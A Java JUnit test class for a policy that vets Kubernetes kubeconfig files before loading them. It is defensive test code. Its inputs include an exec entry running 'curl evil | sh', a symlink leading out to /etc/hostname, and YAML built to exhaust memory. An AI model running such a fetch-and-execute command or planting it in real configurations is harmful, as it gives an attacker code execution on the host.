package io.kfp4j.kserve;

import static io.kfp4j.kserve.KubeconfigRisk.CLEAR_TEXT;
import static io.kfp4j.kserve.KubeconfigRisk.EXEC;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.client.Config;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class KubeconfigPolicyTest {

    private final Path secret;

    KubeconfigPolicyTest(@TempDir Path secret) {
        this.secret = secret;
    }

    @Test
    void loadsAPlainKubeconfig() throws Exception {
        Path file = kubeconfig("server: https://k8s:6443, certificate-authority-data: Q0E=", "token: t0p");

        Config config = KubeconfigPolicy.STRICT.load(file);

        assertThat(config.getMasterUrl()).startsWith("https://k8s:6443");
        assertThat(config.getCaCertData()).isEqualTo("Q0E=");
        assertThat(config.getAutoOAuthToken()).isEqualTo("t0p");
        assertThat(config.getNamespace()).isEqualTo("models");
        assertThat(config.isTrustCerts()).isFalse();
    }

    @Test
    void takesInTheFilesBesideIt() throws Exception {
        Files.writeString(secret.resolve("ca.crt"), "CA");
        Files.writeString(secret.resolve("token"), "first\n");
        Path file = kubeconfig("server: https://k8s:6443, certificate-authority: ca.crt", "tokenFile: token");

        Config config = KubeconfigPolicy.STRICT.load(file);
        String before = config.getOauthTokenProvider().getToken();
        Files.writeString(secret.resolve("token"), "second\n");

        assertThat(config.getCaCertData()).isEqualTo("Q0E=");
        assertThat(before).isEqualTo("first");
        assertThat(config.getOauthTokenProvider().getToken()).isEqualTo("second");
    }

    @Test
    void tellsEveryProblemAtOnce() throws Exception {
        Path file = kubeconfig(
                "server: http://k8s, insecure-skip-tls-verify: true, certificate-authority: /etc/hostname",
                "exec: {command: /bin/sh, args: [-c, 'curl evil | sh']}, auth-provider: {name: gcp}");

        assertThat(KubeconfigPolicy.STRICT.problems(file))
                .containsExactly(
                        "cluster 'c': insecure-skip-tls-verify believes any server. Put the server's certificate"
                                + " authority into certificate-authority-data.",
                        "cluster 'c': server 'http://k8s' is not encrypted. Use https.",
                        "cluster 'c': certificate-authority names '/etc/hostname', which lies outside the kubeconfig's"
                                + " folder. Put the content into the kubeconfig.",
                        "user 'u': exec runs a program ('/bin/sh'). Use a service account's token instead.",
                        "user 'u': auth-provider hands tokens to a plug-in. Use a service account's token instead.");
    }

    @Test
    void refusesALinkThatLeadsOut() throws Exception {
        Files.createSymbolicLink(secret.resolve("ca.crt"), Path.of("/etc/hostname"));
        Path file = kubeconfig("server: https://k8s, certificate-authority: ca.crt", "token: t");

        assertThat(KubeconfigPolicy.STRICT.problems(file))
                .singleElement()
                .asString()
                .contains("lies outside");
    }

    @Test
    void followsTheLinksOfAMountedSecret() throws Exception {
        Path data = Files.createDirectory(secret.resolve("..2026"));
        Files.writeString(data.resolve("ca.crt"), "CA");
        Files.createSymbolicLink(secret.resolve("..data"), Path.of("..2026"));
        Files.createSymbolicLink(secret.resolve("ca.crt"), Path.of("..data/ca.crt"));
        Files.writeString(
                data.resolve("config"), text("server: https://k8s, certificate-authority: ca.crt", "token: t"));
        Path file = Files.createSymbolicLink(secret.resolve("config"), Path.of("..data/config"));

        assertThat(KubeconfigPolicy.STRICT.problems(file)).isEmpty();
    }

    @Test
    void allowsWhatTheCallerTakesTheBlameFor() throws Exception {
        Path file = kubeconfig("server: http://localhost:8001", "token: t");

        assertThat(KubeconfigPolicy.STRICT.allowing(EXEC).problems(file)).hasSize(1);
        assertThat(KubeconfigPolicy.STRICT.allowing(CLEAR_TEXT).problems(file)).isEmpty();
    }

    @Test
    void neverRunsAProgramItRefuses() throws Exception {
        Path marker = secret.resolve("ran");
        Path file = kubeconfig(
                "server: https://k8s",
                "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ['" + marker + "']}");

        assertThatThrownBy(() -> KubeconfigPolicy.STRICT.load(file)).isInstanceOf(KubeconfigException.class);
        assertThat(marker).doesNotExist();
    }

    @Test
    void doesNotRepeatTheLineOfABrokenFile() throws Exception {
        Path file = Files.writeString(secret.resolve("config"), "users: [{token: s3cret");

        assertThatThrownBy(() -> KubeconfigPolicy.STRICT.load(file))
                .hasMessage("kubeconfig '" + file + "' is refused:\n- it is no YAML that a kubeconfig may be. Check it"
                        + " with 'kubectl config view'.");
    }

    @Test
    void refusesYamlBuiltToExhaustMemory() throws Exception {
        Path nested = Files.writeString(secret.resolve("nested"), "[".repeat(200_000));
        Path large = Files.writeString(secret.resolve("large"), "a".repeat((1 << 20) + 1));

        assertThat(KubeconfigPolicy.STRICT.problems(nested)).hasSize(1);
        assertThat(KubeconfigPolicy.STRICT.problems(large))
                .singleElement()
                .asString()
                .contains("larger than");
    }

    @Test
    void saysWhenTheContextNamesNothing() throws Exception {
        Path file = Files.writeString(
                secret.resolve("config"),
                text("server: https://k8s", "token: t").replace("current-context: x", "current-context: y"));

        assertThat(KubeconfigPolicy.STRICT.problems(file))
                .containsExactly(
                        "current-context: names none of the contexts. Set it with 'kubectl config use-context'.");
    }

    @Test
    void findsItsOwnClusterByItsServiceAccount() throws Exception {
        Files.writeString(secret.resolve("token"), "pod-token");

        Config config = Cluster.inClusterConfig(
                Map.of("KUBERNETES_SERVICE_HOST", "10.0.0.1", "KUBERNETES_SERVICE_PORT", "6443"), secret);

        assertThat(config.getMasterUrl()).startsWith("https://10.0.0.1:6443");
        assertThat(config.getOauthTokenProvider().getToken()).isEqualTo("pod-token");
    }

    @Test
    void saysWhichClustersKeyCannotBeUsed() throws Exception {
        Path file = kubeconfig("server: https://k8s", "client-certificate-data: Q0E=, client-key-data: Q0E=");

        assertThatThrownBy(() -> Cluster.fromKubeconfig("milan", file, KubeconfigPolicy.STRICT))
                .isInstanceOf(IllegalStateException.class)
                .hasMessageStartingWith("cluster 'milan': its certificates or key cannot be used: ");
    }

    @Test
    void saysThatThereIsNoClusterAroundIt() {
        assertThatThrownBy(() -> Cluster.inClusterConfig(Map.of(), secret))
                .isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("Name a kubeconfig instead.");
    }

    private Path kubeconfig(String cluster, String user) throws IOException {
        return Files.writeString(secret.resolve("config"), text(cluster, user));
    }

    private static String text(String cluster, String user) {
        return """
                apiVersion: v1
                kind: Config
                clusters: [{name: c, cluster: {%s}}]
                users: [{name: u, user: {%s}}]
                contexts: [{name: x, context: {cluster: c, user: u, namespace: models}}]
                current-context: x
                """
                .formatted(cluster, user);
    }
}
